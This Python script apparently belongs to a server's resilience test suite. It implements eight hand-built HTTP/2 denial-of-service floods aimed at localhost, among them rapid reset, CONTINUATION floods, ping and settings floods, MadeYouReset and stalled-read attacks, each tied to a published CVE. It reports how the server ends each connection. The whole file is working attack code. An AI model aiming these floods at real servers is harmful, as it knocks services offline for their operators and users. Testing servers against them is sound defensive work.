"""HTTP/2 floods for attack 14 (attacks/h2_floods.py), over h2c with prior knowledge: one mode a
run, on a few connections at once, each reopened when the server ends it, for a bounded time,
frame count and connection count. Frames are made by hand (struct), header blocks from HPACK's
static table and literals without indexing, so each frame is exactly what the mode says.

Modes (what each connection sends after the preface and an empty SETTINGS):
- rapid-reset: HEADERS (GET /, END_STREAM) then RST_STREAM CANCEL on a new stream, again and
  again (CVE-2023-44487). Reads the server's frames.
- continuation: a HEADERS without END_HEADERS, then CONTINUATION frames without end; the even
  connections one small field a frame, the odd ones 16 KiB frames of one endless field value
  (CVE-2024-27316, CVE-2024-28182). Reads.
- ping: PING frames, never reading their ACKs (CVE-2019-9512).
- settings: SETTINGS frames of five entries each, never reading their ACKs (CVE-2019-9515).
- empty-frames: the even connections open a POST stream and send zero-length DATA on it without
  END_STREAM; the odd ones a HEADERS without END_HEADERS, then zero-length CONTINUATION frames
  (CVE-2019-9518). Reads.
- made-you-reset: frames that make the server reset the stream it has just been asked on
  (CVE-2025-8671): GET / (END_STREAM) then a WINDOW_UPDATE overflowing the stream's window
  (FLOW_CONTROL_ERROR), and GET / with `content-length: 1` and END_STREAM (PROTOCOL_ERROR), in
  turn. Reads, and counts the server's RST_STREAMs.
- stalled: never reads, with a 4 KiB receive buffer (and a 16 KiB send buffer, so that its sends
  stop soon after the server stops reading). The even connections open the connection's window
  to its maximum (so HTTP/2 flow control does not hold the answers back: they go to the socket),
  then send GET / on new streams, 50 a millisecond (no more than the server's 100 streams at once
  in one of its reads while it keeps up), until the server stops taking them (its send buffer
  full, it reads no more); the odd ones set SETTINGS_INITIAL_WINDOW_SIZE to 0 and open 100
  streams whose answers cannot be sent. Then each only waits for the server to close it; the
  time from its last byte taken to that close is measured.
- free-frames: valid frames that need no answer and that no budget counts, as fast as the
  socket takes them: WINDOW_UPDATE of 1 on the connection, PRIORITY on an open stream, and a
  frame of an unknown type (ignored by the protocol's rule), one kind per connection in turn
  (CVE-2019-9513's resource loop, without the churn). Reads.

A connection ends by the server's GOAWAY (its error code), its close (FIN) or reset (RST), or is
still open at the end. One JSON document on stdout. Traffic only to 127.0.0.1.
"""
import argparse
import errno
import json
import select
import socket
import struct
import sys
import time

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = \
    0x0, 0x1, 0x2, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
UNKNOWN_TYPE = 0x20  # no frame type of RFC 9113 or its extensions: a receiver ignores it
END_STREAM, END_HEADERS = 0x1, 0x4
ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR",
               0x3: "FLOW_CONTROL_ERROR", 0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED",
               0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM", 0x8: "CANCEL",
               0x9: "COMPRESSION_ERROR", 0xa: "CONNECT_ERROR", 0xb: "ENHANCE_YOUR_CALM",
               0xc: "INADEQUATE_SECURITY", 0xd: "HTTP_1_1_REQUIRED"}
CANCEL, MAX_WINDOW = 0x8, 0x7fffffff
# HPACK: :method GET / POST, :scheme http, :path / from the static table, :authority "t" as a
# literal without indexing (nothing enters the dynamic table, so every block can be resent).
GET_ROOT = b"\x82\x86\x84\x01\x01t"
POST_ROOT = b"\x83\x86\x84\x01\x01t"
CONTENT_LENGTH_1 = b"\x0f\x0d\x011"  # content-length (static index 28): "1"
FRAMES_PER_CHUNK = 100
EMPTY_PER_CHUNK = 1000
LAST_STREAM_ID = MAX_WINDOW - 2 * FRAMES_PER_CHUNK
WINDOW_ZERO_STREAMS = 100
SMALL_RECEIVE_BUFFER = 4096
SMALL_SEND_BUFFER = 16384
PACED_STREAMS, PACE_S = 50, 0.001  # stalled, even connections: 50 requests a millisecond
STALLED_CYCLE_S = 5.0
STALL_S = 0.5          # stalled: no byte taken for this long means the server stopped reading
DRAIN_BYTES = 64 << 20  # what is read, at most, after a close that was not read as it came
CONNECT_TIMEOUT_S = 5.0


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + \
        struct.pack(">I", stream_id) + payload


def hpack_integer(value, prefix_bits, first_byte_flags=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first_byte_flags | value,))
    out = bytearray((first_byte_flags | limit,))
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A field as a literal without indexing, with a new name."""
    return (b"\x00" + hpack_integer(len(name), 7) + name + hpack_integer(len(value), 7) + value)


class Streams:
    """Client stream ids, odd and rising."""

    def __init__(self):
        self.next_id = 1

    def take(self):
        stream_id = self.next_id
        self.next_id += 2
        return stream_id


# -- what each mode sends: a generator of (bytes, frames) chunks per connection ------------------
def rapid_reset(index):
    streams = Streams()
    while streams.next_id < LAST_STREAM_ID:
        parts = []
        for _ in range(FRAMES_PER_CHUNK // 2):
            stream_id = streams.take()
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, stream_id, GET_ROOT))
            parts.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)))
        yield b"".join(parts), len(parts)


def continuation(index):
    yield frame(HEADERS, END_STREAM, 1, GET_ROOT), 1
    if index % 2 == 0:
        number = 0
        while True:
            parts = []
            for _ in range(FRAMES_PER_CHUNK):
                parts.append(frame(CONTINUATION, 0, 1, literal(b"x-f%d" % number, b"v")))
                number += 1
            yield b"".join(parts), len(parts)
    # One field whose value never ends: its length says 1 GiB, the frames carry its bytes.
    head = literal(b"x-big", b"")[:-1] + hpack_integer(1 << 30, 7)
    body = frame(CONTINUATION, 0, 1, b"v" * 16384)
    yield frame(CONTINUATION, 0, 1, head + b"v" * (16384 - len(head))), 1
    while True:
        yield body * 4, 4


def ping(index):
    chunk = b"".join(frame(PING, 0, 0, struct.pack(">Q", n)) for n in range(EMPTY_PER_CHUNK))
    while True:
        yield chunk, EMPTY_PER_CHUNK


def settings(index):
    def entries(window):
        # HEADER_TABLE_SIZE, ENABLE_PUSH, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE, MAX_HEADER_LIST_SIZE
        return struct.pack(">HIHIHIHIHI", 0x1, 4096, 0x2, 0, 0x4, window, 0x5, 16384, 0x6, 65536)
    pair = frame(SETTINGS, 0, 0, entries(65535)) + frame(SETTINGS, 0, 0, entries(65536))
    chunk = pair * (FRAMES_PER_CHUNK * 3 // 2)
    while True:
        yield chunk, FRAMES_PER_CHUNK * 3


def empty_frames(index):
    if index % 2 == 0:
        yield frame(HEADERS, END_HEADERS, 1, POST_ROOT), 1
        chunk = frame(DATA, 0, 1) * EMPTY_PER_CHUNK
    else:
        yield frame(HEADERS, END_STREAM, 1, GET_ROOT), 1
        chunk = frame(CONTINUATION, 0, 1) * EMPTY_PER_CHUNK
    while True:
        yield chunk, EMPTY_PER_CHUNK


def free_frames(index):
    kind = index % 3
    if kind == 0:
        one = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))  # 2^31 of them before overflow
    elif kind == 1:
        yield frame(HEADERS, END_HEADERS, 1, POST_ROOT), 1  # a request whose body never comes
        one = frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))  # on the root, weight 16
    else:
        one = frame(UNKNOWN_TYPE, 0, 0)
    chunk = one * EMPTY_PER_CHUNK
    while True:
        yield chunk, EMPTY_PER_CHUNK


def made_you_reset(index):
    streams = Streams()
    overflow = struct.pack(">I", MAX_WINDOW)
    while streams.next_id < LAST_STREAM_ID:
        parts = []
        for _ in range(FRAMES_PER_CHUNK // 4):
            stream_id = streams.take()
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, stream_id, GET_ROOT))
            parts.append(frame(WINDOW_UPDATE, 0, stream_id, overflow))
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, streams.take(),
                               GET_ROOT + CONTENT_LENGTH_1))
        yield b"".join(parts), len(parts)


def stalled(index):
    streams = Streams()
    if index % 2 == 1:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0)), 1
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, streams.take(), GET_ROOT)
                       for _ in range(WINDOW_ZERO_STREAMS)), WINDOW_ZERO_STREAMS
        return
    yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65535)), 1
    while streams.next_id < LAST_STREAM_ID:
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, streams.take(), GET_ROOT)
                       for _ in range(PACED_STREAMS)), PACED_STREAMS


# The modes whose even and odd connections send different floods: their names, even first.
VARIANTS = {
    "continuation": ("small-fields", "endless-value"),
    "empty-frames": ("empty-data", "empty-continuation"),
    "stalled": ("unread", "window-0"),
    "free-frames": ("window-update", "priority", "unknown-type"),
}
# mode: (chunks, reads what the server sends as it comes)
MODES = {
    "rapid-reset": (rapid_reset, True),
    "continuation": (continuation, True),
    "ping": (ping, False),
    "settings": (settings, False),
    "empty-frames": (empty_frames, True),
    "made-you-reset": (made_you_reset, True),
    "stalled": (stalled, False),
    "free-frames": (free_frames, True),
}


class FrameReader:
    """What the server sent: its GOAWAY's code, its RST_STREAMs by code, HEADERS frames. Only the
    frame headers are kept (and the payloads of RST_STREAM and GOAWAY)."""

    def __init__(self):
        self.rest = b""
        self.skip = 0
        self.goaway = None
        self.resets = {}
        self.headers = 0
        self.received = 0

    def feed(self, data):
        self.received += len(data)
        if self.skip:
            taken = min(self.skip, len(data))
            self.skip -= taken
            data = data[taken:]
        buffer = self.rest + data if self.rest else data
        at = 0
        while len(buffer) - at >= 9:
            length, kind = int.from_bytes(buffer[at:at + 3], "big"), buffer[at + 3]
            end = at + 9 + length
            if kind in (RST_STREAM, GOAWAY) and end > len(buffer):
                break  # the payload is wanted: wait for all of it
            if kind == RST_STREAM:
                name = ERROR_NAMES.get(int.from_bytes(buffer[at + 9:at + 13], "big"), "?")
                self.resets[name] = self.resets.get(name, 0) + 1
            elif kind == GOAWAY and self.goaway is None:
                self.goaway = ERROR_NAMES.get(int.from_bytes(buffer[at + 13:at + 17], "big"), "?")
            elif kind == HEADERS:
                self.headers += 1
            if end > len(buffer):
                self.skip = end - len(buffer)
                at = len(buffer)
                break
            at = end
        self.rest = bytes(buffer[at:])


class Connection:
    """One attacking connection: the mode's chunks out, the server's frames in (as they come, or
    only once it has ended the connection), and how it ended."""

    def __init__(self, port, chunks, reads, small_buffer, pace_s=0.0):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if small_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_RECEIVE_BUFFER)
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SMALL_SEND_BUFFER)
        self.sock.settimeout(CONNECT_TIMEOUT_S)
        try:
            self.sock.connect((HOST, port))
        except OSError:
            self.sock.close()
            raise
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.fd = self.sock.fileno()  # kept: a closed socket's fileno() is -1
        self.chunks, self.reads = chunks, reads
        self.pending, self.pending_frames = memoryview(PREFACE + frame(SETTINGS, 0, 0)), 1
        self.frames = self.sent = 0
        self.opened = self.last_taken = time.monotonic()
        self.done_sending = False
        self.pace_s, self.next_chunk_at = pace_s, 0.0  # a chunk at most every pace_s
        self.ended = self.ended_at = None
        self.reader = FrameReader()
        self.variant = None

    def events(self):
        wanted = select.POLLRDHUP
        if self.reads:
            wanted |= select.POLLIN
        if not self.done_sending and (self.pending or self.pacing_over()):
            wanted |= select.POLLOUT
        return wanted

    def pacing_over(self):
        return time.monotonic() >= self.next_chunk_at

    def send_some(self, budget):
        """Sends up to `budget` bytes; returns the frames whose chunk went out whole."""
        before = self.frames
        while budget > 0 and not self.done_sending:
            if not self.pending:
                if not self.pacing_over():
                    break
                try:
                    chunk, count = next(self.chunks)
                except StopIteration:
                    self.done_sending = True
                    break
                self.pending, self.pending_frames = memoryview(chunk), count
            try:
                taken = self.sock.send(self.pending)
            except BlockingIOError:
                break
            except OSError as error:
                self.end_by_error(error)
                break
            self.last_taken = time.monotonic()
            self.sent += taken
            budget -= taken
            self.pending = self.pending[taken:]
            if not self.pending:
                self.frames += self.pending_frames
                if self.pace_s:
                    self.next_chunk_at = self.last_taken + self.pace_s
        return self.frames - before

    def read_some(self):
        try:
            while True:
                data = self.sock.recv(1 << 18)
                if not data:
                    self.end("close")
                    return
                self.reader.feed(data)
                if self.reader.goaway is not None:
                    self.end(f"goaway:{self.reader.goaway}")
                    return
        except BlockingIOError:
            pass
        except OSError as error:
            self.end_by_error(error)

    def on_hang_up(self):
        """The server closed (or reset) a connection this side did not read: read what it sent
        before, for a GOAWAY, then say how it ended."""
        self.sock.settimeout(1.0)
        how = "close"
        try:
            while self.reader.received < DRAIN_BYTES:
                data = self.sock.recv(1 << 18)
                if not data:
                    break
                self.reader.feed(data)
        except (ConnectionResetError, socket.timeout, OSError):
            how = "reset"
        self.end(f"goaway:{self.reader.goaway}" if self.reader.goaway else how)

    def end_by_error(self, error):
        if error.errno in (errno.EPIPE, errno.ECONNRESET):
            self.on_hang_up()  # what the server sent before its reset is still to be read
        else:
            self.end(f"error:{error.strerror}")

    def end(self, how):
        if self.ended is None:
            self.ended, self.ended_at = how, time.monotonic()
        self.sock.close()


class Attack:
    """`slots` connections at once, each reopened when it ends, until the deadline or a bound."""

    def __init__(self, options):
        self.options = options
        self.chunks, self.reads = MODES[options.mode]
        self.small_buffer = options.mode == "stalled"
        self.slots = [None] * options.connections
        self.finished = []  # ended connections
        self.frames = self.opened = 0
        self.errors = []
        self.poller = select.poll()

    def open(self, slot):
        if self.opened >= self.options.max_connections:
            return
        paced = self.options.mode == "stalled" and slot % 2 == 0
        try:
            connection = Connection(self.options.port, self.chunks(slot), self.reads,
                                    self.small_buffer, PACE_S if paced else 0.0)
        except OSError as error:
            if len(self.errors) < 10:
                self.errors.append(f"connect: {error}")
            time.sleep(0.05)
            return
        self.opened += 1
        names = VARIANTS.get(self.options.mode, (self.options.mode,))
        connection.variant = names[slot % len(names)]
        self.slots[slot] = connection
        self.poller.register(connection.fd, connection.events())

    def retire(self, slot):
        connection = self.slots[slot]
        self.slots[slot] = None
        self.poller.unregister(connection.fd)
        connection.end("open")  # no-op for one the server ended
        self.finished.append(connection)

    def reopen_margin(self, slot):
        """stalled mode, even slots: no new connection in the flood's last STALLED_CYCLE_S, the
        time one takes to fill the server's buffers and be closed at its idle timeout."""
        return STALLED_CYCLE_S if self.options.mode == "stalled" and slot % 2 == 0 else 0.0

    def stalled(self, connection, now):
        """stalled mode: nothing more is sent once the server takes no byte for STALL_S."""
        return (self.small_buffer and not connection.done_sending
                and now - connection.last_taken > STALL_S)

    def step(self, slot, connection, revents):
        if revents & select.POLLOUT and self.frames < self.options.max_frames:
            self.frames += connection.send_some(1 << 20)
        if connection.ended is None and self.reads and revents & select.POLLIN:
            connection.read_some()
        if connection.ended is None and revents & (select.POLLRDHUP | select.POLLHUP |
                                                   select.POLLERR):
            if self.reads:
                connection.read_some()
            if connection.ended is None:
                connection.on_hang_up()

    def run(self):
        deadline = time.monotonic() + self.options.seconds
        for slot in range(len(self.slots)):
            self.open(slot)
        while time.monotonic() < deadline:
            self.turn(deadline)
        # The grace: nothing more is sent, and the server may still end what it has not ended.
        # A stalled connection still sending goes on until the server stops taking its bytes: one
        # that stopped first would wait, unread, for an end its closed window could not bring
        # (the server's FIN queued behind answers the client never reads).
        for connection in filter(None, self.slots):
            if not connection.pace_s:
                connection.done_sending = True
        grace_end = time.monotonic() + self.options.grace
        while any(self.slots) and time.monotonic() < grace_end:
            self.turn(deadline)
        for slot, connection in enumerate(self.slots):
            if connection is not None:
                self.retire(slot)

    def turn(self, deadline):
        """One poll: sends, reads, ends; reopens an ended connection's slot before the deadline."""
        by_fd = {c.fd: (slot, c) for slot, c in enumerate(self.slots) if c}
        pacing = any(c.pace_s and not c.done_sending for _, c in by_fd.values())
        for fd, revents in self.poller.poll(1 if pacing else 50):
            slot, connection = by_fd[fd]
            self.step(slot, connection, revents)
        now = time.monotonic()
        for slot, connection in enumerate(self.slots):
            if connection is None:
                if now < deadline - self.reopen_margin(slot):
                    self.open(slot)
                continue
            if self.stalled(connection, now) or self.frames >= self.options.max_frames:
                connection.done_sending = True
            if connection.ended is not None:
                self.retire(slot)
                if now < deadline - self.reopen_margin(slot):
                    self.open(slot)
            else:
                self.poller.modify(connection.fd, connection.events())

    def report(self, elapsed):
        resets = {}
        for c in self.finished:
            for name, count in c.reader.resets.items():
                resets[name] = resets.get(name, 0) + count
        names = VARIANTS.get(self.options.mode, (self.options.mode,))
        return {
            "mode": self.options.mode,
            "seconds": round(elapsed, 3),
            "frames": self.frames,
            "bytes": sum(c.sent for c in self.finished),
            "opened": self.opened,
            "variants": {name: summary([c for c in self.finished if c.variant == name])
                         for name in names},
            "server_resets": resets,
            "server_headers": sum(c.reader.headers for c in self.finished),
            "received_bytes": sum(c.reader.received for c in self.finished),
            "errors": self.errors,
        }


def summary(connections):
    """How a variant's connections ended: by which end how many, the longest life of those the
    server ended, the oldest of those still open at the end, and the time from the last byte
    the server took to its end (connections that had stopped sending)."""
    # A connection opened at the deadline that sent no frame before the flood stopped never
    # attacked: the server rightly waits for its first request (the header timeout); not judged.
    connections = [c for c in connections if not (c.ended == "open" and c.frames == 0)]
    ends = {}
    for c in connections:
        ends[c.ended] = ends.get(c.ended, 0) + 1
    ended = [c for c in connections if c.ended != "open"]
    still_open = [c for c in connections if c.ended == "open"]
    stalls = [c.ended_at - c.last_taken for c in ended if c.done_sending]
    return {
        "opened": len(connections),
        "frames": sum(c.frames for c in connections),
        "ends": ends,
        "ended_by_server": len(ended),
        "max_life_s": round(max((c.ended_at - c.opened for c in ended), default=0.0), 3),
        "open_at_end": len(still_open),
        "max_open_s": round(max((c.ended_at - c.opened for c in still_open), default=0.0), 3),
        "stall_to_close_s": [round(min(stalls), 3), round(max(stalls), 3)] if stalls else [],
    }


def first_field_byte(block):
    """The first byte of a header block's first field, past its dynamic table size updates
    (RFC 7541 6.3: 001 and a 5-bit-prefix integer); None when there is none."""
    at = 0
    while at < len(block) and block[at] & 0xe0 == 0x20:
        at += 1
        if block[at - 1] & 0x1f == 0x1f:  # the integer goes on while the high bit is set
            while at < len(block) and block[at] & 0x80:
                at += 1
            at += 1
    return block[at] if at < len(block) else None


def h2_status(port, timeout=5.0):
    """GET / over a new h2c connection: 200 when the answer's HEADERS say :status 200 (HPACK's
    static entry 8, as the server encodes it, after any dynamic table size updates), another int
    for another first field's byte, None for no answer."""
    request = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM | END_HEADERS, 1,
                                                      GET_ROOT)
    data = b""
    try:
        with socket.create_connection((HOST, port), timeout=timeout) as sock:
            sock.sendall(request)
            deadline = time.monotonic() + timeout
            while time.monotonic() < deadline:
                at = 0
                while len(data) - at >= 9:
                    length, kind = int.from_bytes(data[at:at + 3], "big"), data[at + 3]
                    stream_id = int.from_bytes(data[at + 5:at + 9], "big") & MAX_WINDOW
                    if len(data) - at - 9 < length:
                        break
                    if kind == HEADERS and stream_id == 1 and length > 0:
                        first = first_field_byte(data[at + 9:at + 9 + length])
                        return 200 if first == 0x88 else first
                    at += 9 + length
                chunk = sock.recv(65536)
                if not chunk:
                    return None
                data += chunk
    except OSError:
        return None
    return None

def main(argv):
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("mode", choices=sorted(MODES))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--connections", type=int, default=2, help="at once")
    parser.add_argument("--max-connections", type=int, default=5000, help="in all")
    parser.add_argument("--max-frames", type=int, default=4_000_000_000,
                        help="in all (a bound: 10 s of empty frames sent about 1.6 billion)")
    parser.add_argument("--grace", type=float, default=0.0,
                        help="after --seconds: send nothing more, and wait up to this long for "
                             "the server to end the connections still open")
    options = parser.parse_args(argv)
    started = time.monotonic()
    attack = Attack(options)
    attack.run()
    json.dump(attack.report(time.monotonic() - started), sys.stdout)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
